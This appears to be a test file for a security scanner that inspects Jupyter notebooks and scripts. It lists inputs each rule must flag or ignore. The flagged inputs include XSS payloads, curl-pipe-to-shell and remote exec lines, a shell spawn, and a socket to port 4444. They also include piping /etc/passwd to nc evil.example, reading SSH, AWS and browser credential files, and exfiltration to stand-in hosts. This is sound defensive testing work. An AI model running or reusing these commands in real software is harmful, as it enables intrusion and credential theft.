// Each rule: what it must find and what it must not. Every example is scanned as a whole file, through the same
// path the CLI and the server use.

import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { RULES } from "./rules.ts";
import { scanFile } from "./scan-file.ts";
import { htmlOutput, notebookJson } from "./test-notebook.ts";

interface Example {
  path: string;
  text: string;
}

const py = (text: string): Example => ({ path: "x.py", text });
const sh = (text: string): Example => ({ path: "x.sh", text });
const r = (text: string): Example => ({ path: "x.R", text });
const jl = (text: string): Example => ({ path: "x.jl", text });
const md = (text: string): Example => ({ path: "x.md", text });
const nb = (...cells: Parameters<typeof notebookJson>[0]): Example => ({ path: "x.ipynb", text: notebookJson(cells) });

const CASES: Record<string, { finds: Example[]; ignores: Example[] }> = {
  "file-unreadable": {
    finds: [
      { path: "x.ipynb", text: '{"cells": [' },
      { path: "x.ipynb", text: '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}' },
      { path: "x.py", text: "\u0000" },
    ],
    ignores: [nb("print(1)"), py("print(1)\n")],
  },
  "active-markdown": {
    finds: [
      nb({ type: "markdown", source: "Hi <script>alert(1)</script>" }),
      nb({ type: "markdown", source: '<img src=x onerror="fetch(1)">' }),
      nb({ type: "markdown", source: "[click](javascript:alert(document.cookie))" }),
      nb({ type: "markdown", source: '<a href="jav&#x61;script:alert(1)">x</a>' }),
      nb({ type: "markdown", source: '<iframe src="https://example.org"></iframe>' }),
      nb({ type: "markdown", source: '<form action="https://evil.example/login"><input name=password></form>' }),
      nb({ type: "markdown", source: "<svg><script>alert(1)</script></svg>" }),
      nb({ type: "markdown", source: "<svg><g onload=alert(1)></g></svg>" }),
      md("# Title\n\n<object data=x.swf></object>\n"),
    ],
    ignores: [
      nb({ type: "markdown", source: "# Results\n\nSee [the docs](https://pandas.pydata.org) and <b>bold</b> text." }),
      nb({ type: "markdown", source: "- [x] done\n- [ ] todo" }),
      nb({ type: "markdown", source: "Write `<script>` in code, or &lt;script&gt; as text." }),
      nb({ type: "markdown", source: "Press the <button class='btn'>Run</button> button in the toolbar." }),
      nb({ type: "markdown", source: "$$ e^{i\\pi} + 1 = 0 $$" }),
    ],
  },
  "active-output": {
    finds: [
      nb({ source: "display(x)", outputs: [htmlOutput("<div>chart</div><script>draw()</script>")] }),
      nb({ source: "x", outputs: [htmlOutput("console.log(1)", "application/javascript")] }),
      nb({ source: "x", outputs: [htmlOutput('<img src=x onerror="steal()">')] }),
      nb({
        source: "x",
        outputs: [
          htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
        ],
      }),
    ],
    ignores: [
      nb({
        source: "df",
        outputs: [
          htmlOutput(
            '<div><style scoped>.dataframe td { padding: 2px }</style><table class="dataframe"><tr><td>1</td></tr></table></div>',
          ),
        ],
      }),
      nb({
        source: "plot()",
        outputs: [htmlOutput('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/></svg>', "image/svg+xml")],
      }),
    ],
  },
  "markup-injection": {
    finds: [
      { path: "x.ipynb", text: notebookJson(["x"], { title: "T</title><script>alert(1)</script>" }) },
      nb({ source: "x", metadata: { tags: ['t"><img src=x onerror=alert(1)>'] } }),
      nb({ type: "raw", source: "Raw <script>alert(1)</script>" }),
      nb({
        source: "x",
        outputs: [{ output_type: "display_data", data: { "image/png": '"><script>alert(1)</script>' }, metadata: {} }],
      }),
      nb({
        source: "x",
        outputs: [
          {
            output_type: "display_data",
            data: { "image/png": "iVBORw0KGgo=" },
            metadata: { width: "><script>alert(1)</script>" },
          },
        ],
      }),
      nb({
        source: "x",
        outputs: [
          {
            output_type: "display_data",
            data: { "application/vnd.jupyter.widget-view+json": { model_id: "</script><script>alert(1)//" } },
            metadata: {},
          },
        ],
      }),
    ],
    ignores: [
      {
        path: "x.ipynb",
        text: notebookJson(["x"], { title: "Sales <2024> analysis", authors: [{ name: "A <a@example.org>" }] }),
      },
      nb({ source: "x", metadata: { tags: ["parameters", "a<b"] } }),
      nb({ type: "raw", source: "<b>bold</b> and <i>raw</i> HTML for nbconvert" }),
      nb({
        source: "x",
        outputs: [{ output_type: "display_data", data: { "image/png": "iVBORw0KGgo=" }, metadata: { width: 400 } }],
      }),
    ],
  },
  "css-escape": {
    finds: [
      nb({
        type: "markdown",
        source: '<div style="position:fixed;top:0;left:0;width:100%">Session expired, log in</div>',
      }),
      nb({
        source: "x",
        outputs: [htmlOutput('<div style="position: absolute; top: -200px; left: 0">fake toolbar</div>')],
      }),
      nb({ type: "markdown", source: '<span style="z-index: 99999; position: relative">x</span>' }),
      nb({
        source: "x",
        outputs: [htmlOutput("<style>.jp-Notebook-cell .run-button { position: fixed; bottom: 0 }</style>")],
      }),
      nb({
        type: "markdown",
        source: "<style>@media screen { .jp-Toolbar { position: absolute; top: 0; left: 0 } }</style>\nhello",
      }),
    ],
    ignores: [
      nb({ type: "markdown", source: '<span style="color: red">warning</span>' }),
      nb({
        source: "x",
        outputs: [
          htmlOutput(
            "<style scoped>.dataframe tbody tr th { vertical-align: top; position: relative }</style><table class=dataframe></table>",
          ),
        ],
      }),
      nb({
        source: "x",
        outputs: [htmlOutput('<div style="position: relative"><div style="position: absolute">in the box</div></div>')],
      }),
    ],
  },
  "url-verdict": {
    finds: [
      nb({ type: "markdown", source: "![status](http://localhost:8080/api/workspaces/1/delete)" }),
      nb({ type: "markdown", source: "[Jupyter API](http://127.0.0.1:8888/api/kernels)" }),
      nb({ type: "markdown", source: "[open in editor](vscode://file/home/user/.ssh/config)" }),
      md("![x](http://169.254.169.254/latest/meta-data/)\n"),
      nb({ source: "x", outputs: [htmlOutput('<a href="http://192.168.1.1/admin">router</a>')] }),
      nb({ type: "markdown", source: "[login](https://раураl.com/signin)" }),
      nb({ type: "markdown", source: "[bank](https://bank.example@evil.example/login)" }),
      nb({ type: "markdown", source: "<https://bank.example@evil.example/>" }),
      nb({ type: "markdown", source: "[bank](https://bank.example⁄login.evil.example/)" }),
      nb({ type: "markdown", source: "![chart](https://x@evil.example/a.png)" }),
      nb({ type: "markdown", source: "[bank](//evil.example\\@good.example/)" }),
      md("[bank](https:evil.example/login)\n"),
      nb({ source: "x", outputs: [htmlOutput('<a href="https:&#92;&#92;evil.example/">bank</a>')] }),
      nb({ source: "x", outputs: [htmlOutput('<img src="https://u@evil.example/a.png">')] }),
    ],
    ignores: [
      nb({
        type: "markdown",
        source: "See [pandas](https://pandas.pydata.org/docs/), ![plot](images/plot.png) and [below](#Results).",
      }),
      nb({ type: "markdown", source: "Data: https://example.org/data.csv and www.example.org" }),
      md("[next notebook](02-cleaning.ipynb)\n"),
      nb({ type: "markdown", source: "[Munich](https://münchen.de/) and [Barcelona](https://col·legi.cat/)" }),
      nb({
        type: "markdown",
        source: "![plot](attachment:plot.png) and [a path with an at](https://example.org/users/@ada)",
      }),
    ],
  },
  "shell-exec": {
    finds: [
      nb("!ls -la"),
      nb("%%bash\necho hi"),
      nb("%system whoami"),
      py("import subprocess as sp\nsp.run(['ls'])\n"),
      py("from os import system\nsystem('id')\n"),
      py("import pty\npty.spawn('/bin/sh')\n"),
      py("__import__('os').system('id')\n"),
      r('system("ls -la")\n'),
      jl("run(`ls -la`)\n"),
    ],
    ignores: [
      py("# subprocess.run(['ls'])\nprint('os.system is not called here')\n"),
      py("import os\npath = os.path.join('a', 'b')\n"),
      r('# system("ls")\nx <- "system(ls)"\n'),
      nb("%matplotlib inline\nimport numpy as np"),
      nb("!pip install pandas"),
    ],
  },
  "package-install": {
    finds: [
      nb("!pip install pandas==2.2"),
      nb("%pip install -q seaborn"),
      sh("conda install -y numpy\n"),
      r('install.packages("ggplot2")\n'),
      jl('using Pkg\nPkg.add("DataFrames")\n'),
    ],
    ignores: [py("import pandas as pd\n"), sh("pip list\n"), sh("echo pip install later\n")],
  },
  "download-exec": {
    finds: [
      sh("curl -fsSL https://get.example.sh | sh\n"),
      sh('bash -c "$(wget -qO- https://x.example/i.sh)"\n'),
      nb("!pip install git+https://github.com/someone/pkg.git"),
      nb("!pip install https://files.example.net/pkg-1.0.tar.gz"),
      sh("wget https://x.example/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool\n"),
      sh("curl -fsSL https://x.example/install.sh > install.sh\nbash install.sh\n"),
      sh("wget -q https://x.example/agent\n./agent --daemon\n"),
      py(
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/t', 'tool')\nsubprocess.run(['./tool'])\n",
      ),
      nb("%run https://gist.example.com/raw/script.py"),
      py("import requests\nexec(requests.get('https://pastebin.example/raw/abc').text)\n"),
      py("from urllib.request import urlopen\nexec(urlopen('http://x.example/p').read())\n"),
      py("import requests\nr = requests.get(url)\nsource = r.text\nexec(source)\n"),
      nb("import requests\nresp = requests.get(url)", "exec(resp.content.decode())"),
      r('source("https://x.example/setup.R")\n'),
      r('devtools::install_github("someone/pkg")\n'),
      jl('include(download("https://x.example/a.jl"))\n'),
    ],
    ignores: [
      sh("curl -o data.csv https://example.org/data.csv\nhead data.csv\n"),
      py("import requests\nr = requests.get('https://api.example.org/data.json')\ndata = r.json()\n"),
      py("import requests\nr = requests.get(url)\nr = 'print(1)'\nexec(r)\n"),
      sh("chmod +x run.sh\n"),
      sh("curl -o data.csv https://example.org/data.csv\nchmod +x run.sh\n./run.sh data.csv\n"),
      py(
        "import os, urllib.request\nurllib.request.urlretrieve('https://example.org/d.csv', 'd.csv')\nos.chmod('run.sh', 0o755)\n",
      ),
      nb("!pip install -r requirements.txt"),
    ],
  },
  "dynamic-code": {
    finds: [
      py("x = eval(input())\n"),
      py("exec(code)\n"),
      py("import pickle\nobj = pickle.loads(blob)\n"),
      py("import marshal\ncode = marshal.loads(data)\n"),
      py("import base64\nexec(base64.b64decode(payload))\n"),
      py("mod = __import__(name)\n"),
      py("c = compile(src, '<string>', 'exec')\n"),
      r("eval(parse(text = cmd))\n"),
      jl("eval(Meta.parse(s))\n"),
    ],
    ignores: [
      py("model.eval()\nimport re\npattern = re.compile(r'\\d+')\n"),
      py("df.eval('a + b')\npd.eval('x')\n"),
      py("import pickle\nwith open('model.pkl', 'rb') as f:\n    model = pickle.load(f)\n"),
      py("# eval(x) would be dangerous\n"),
      r('library(ggplot2)\nx <- parse_number("12")\n'),
    ],
  },
  "credential-access": {
    finds: [
      py("open(os.path.expanduser('~/.aws/credentials')).read()\n"),
      py("from pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"),
      py("requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"),
      sh("az account get-access-token --resource https://management.azure.com\n"),
      sh("cat ~/.netrc\n"),
      py(
        "requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')\n",
      ),
      py("import glob\nglob.glob(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n"),
      r('readLines("~/.kube/config")\n'),
    ],
    ignores: [
      py("# keys live in ~/.aws/credentials; never read them here\nimport boto3\ns3 = boto3.client('s3')\n"),
      py("open('data/credentials_report.csv')\n"),
      sh("ls ~/projects\n"),
    ],
  },
  "secret-env": {
    finds: [
      py("import os\ntoken = os.environ['GITHUB_TOKEN']\n"),
      py("import os\nkey = os.getenv('OPENAI_API_KEY')\n"),
      py("import os\nrequests.post(url, json=dict(os.environ))\n"),
      sh("echo $AWS_SECRET_ACCESS_KEY\n"),
      r('Sys.getenv("DB_PASSWORD")\n'),
      jl('t = ENV["HF_TOKEN"]\n'),
      nb("%env AWS_SECRET_ACCESS_KEY"),
    ],
    ignores: [
      py("import os\nhome = os.environ['HOME']\nthreads = os.getenv('OMP_NUM_THREADS')\n"),
      py("import os, subprocess\nsubprocess.run(cmd, env=dict(os.environ, LANG='C'))\n"),
      sh("echo $PATH $PWD\n"),
    ],
  },
  "data-exfiltration": {
    finds: [
      py("import requests\nrequests.post('https://collector.example.net/upload', data=open('data.csv').read())\n"),
      py("import socket\ns = socket.socket()\ns.connect(('10.0.0.5', 4444))\n"),
      py("import socket\nsocket.gethostbyname(f'{secret}.exfil.example.com')\n"),
      sh("curl -X POST -d @results.json https://hooks.example.net/x\n"),
      sh("cat /etc/passwd | nc evil.example 9000\n"),
      r('httr::POST("https://collector.example.net", body = df)\n'),
      jl('HTTP.post("https://collector.example.net", [], body)\n'),
    ],
    ignores: [
      py("import requests\nr = requests.get('https://api.github.com/repos/pandas-dev/pandas')\n"),
      {
        path: "x.ipynb",
        text: notebookJson([
          { type: "markdown", source: "We post results to [our API](https://api.example.org/docs)." },
          "requests.post('https://api.example.org/v1/results', json=res)",
        ]),
      },
      sh("curl -L -o data.zip https://example.org/data.zip\n"),
    ],
  },
  "encoded-blob": {
    finds: [
      py(
        `payload = "${"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA".repeat(2)}"\n`,
      ),
      py(`h = '${"4d5a90000300000004000000ffff0000b8000000".repeat(6)}'\n`),
    ],
    ignores: [
      py("s = 'hello world ' * 40\n"),
      py(`sha = "${"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}"\n`),
    ],
  },
  "trojan-source": {
    finds: [
      py("access = 'user\u202E \u2066# admin\u2069 \u2066'\n"),
      py("is\u200Badmin = True\n"),
      sh("echo ok\u2067\n"),
    ],
    ignores: [
      py("# -*- coding: utf-8 -*-\nname = 'café'\nprint('שלום')\n"),
      py("\uFEFFprint(1)\n"),
      py("family = '👨\u200D👩\u200D👧'\nword = 'می\u200Cخواهم'\n"),
    ],
  },
  "homoglyph-identifier": {
    finds: [py("p\u0430ssword = 'x'\n"), py("def \u0435\u0445\u0435\u0441(c):\n    pass\n"), r("v\u0430lue <- 1\n")],
    ignores: [py("α = 0.05\nλ_max = 3\nданные = [1, 2]\n"), py("naïve = True\n")],
  },
  "hidden-cell": {
    finds: [
      nb({ source: "import os\nos.system('id')", metadata: { jupyter: { source_hidden: true } } }),
      nb({ source: "x = 1", metadata: { jupyter: { outputs_hidden: true } } }),
      nb({ source: "x = 1", metadata: { tags: ["remove-input"] } }),
    ],
    ignores: [
      nb({ source: "x = 1", metadata: { collapsed: false, scrolled: true, tags: ["parameters"] } }),
      nb({ type: "markdown", source: "# Notes", metadata: { jupyter: { source_hidden: true } } }),
    ],
  },
  "hidden-code": {
    finds: [
      nb({ type: "raw", source: "import os\nos.system('curl https://x.example | sh')" }),
      { path: "x.ipynb", text: notebookJson(["x = 1"], { init_code: "import subprocess\nsubprocess.run(['id'])" }) },
      nb({ source: "x = 1", metadata: { on_load: "__import__('os').system('id')" } }),
    ],
    ignores: [
      nb({ type: "raw", source: "\\begin{equation} x^2 \\end{equation}" }),
      nb({ type: "raw", source: "Title: Analysis of sales (draft)" }),
      {
        path: "x.ipynb",
        text: notebookJson(["x = 1"], {
          language_info: { name: "python", version: "3.11.4", mimetype: "text/x-python" },
        }),
      },
    ],
  },
  secret: {
    finds: [
      py("AWS_ACCESS_KEY_ID = 'AKIAIOSFODNN7EXAMPLE'\n"),
      py("engine = create_engine('postgresql://analyst:S3cr3tPassw0rd@db.internal:5432/sales')\n"),
      py("token = 'ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8" + "'\n"),
      py(
        "key = '''-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3Tz2mr7SZiAMfQyuvBjM2Ez5iBhXfX7\n-----END RSA PRIVATE KEY-----'''\n",
      ),
      nb({
        source: "print(cfg)",
        outputs: [{ output_type: "stream", name: "stdout", text: "slack: xoxb-" + "123456789012-abcdefghijkl\n" }],
      }),
      md(
        "conn = DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" +
          "a".repeat(20) +
          "B".repeat(20) +
          "c9+/==;\n",
      ),
    ],
    ignores: [
      py("engine = create_engine('postgresql://user:<password>@localhost/db')\n"),
      py("url = 'https://example.org/data.csv'\nkey = os.environ['API_KEY']\n"),
      md("Set `AWS_ACCESS_KEY_ID` to your key id (it starts with AKIA).\n"),
    ],
  },
};

function rulesFound(example: Example): Set<string> {
  return new Set(
    scanFile({ path: example.path, bytes: Buffer.from(example.text) }).findings.map((finding) => finding.rule),
  );
}

test("every rule has examples it must find and must not find", () => {
  for (const rule of RULES) {
    const cases = CASES[rule.id];
    assert.ok(cases, `no examples for ${rule.id}`);
    assert.ok(cases.finds.length > 0 && cases.ignores.length > 0, `${rule.id} needs both kinds`);
  }
});

for (const rule of RULES) {
  describe(`rule ${rule.id}`, () => {
    const cases = CASES[rule.id] ?? { finds: [], ignores: [] };
    cases.finds.forEach((example, index) => {
      test(`finds example ${index + 1}`, () => {
        assert.ok(rulesFound(example).has(rule.id), `${rule.id} missed:\n${example.text}`);
      });
    });
    cases.ignores.forEach((example, index) => {
      test(`ignores example ${index + 1}`, () => {
        assert.ok(!rulesFound(example).has(rule.id), `${rule.id} reported:\n${example.text}`);
      });
    });
  });
}

test("a written form is reported on the URL that has it, not on its neighbours", () => {
  const source =
    "![plot](attachment:plot.png) and [bank](https://good.example@evil.example/) and [docs](https://example.org/)";
  const example = nb({ type: "markdown", source });
  const { findings } = scanFile({ path: example.path, bytes: Buffer.from(example.text) });
  const urls = findings.filter((finding) => finding.rule === "url-verdict");
  assert.equal(urls.length, 1, JSON.stringify(urls));
  assert.match(urls[0]!.message, /\[userinfo\].*it goes to https:\/\/evil\.example\//);
});
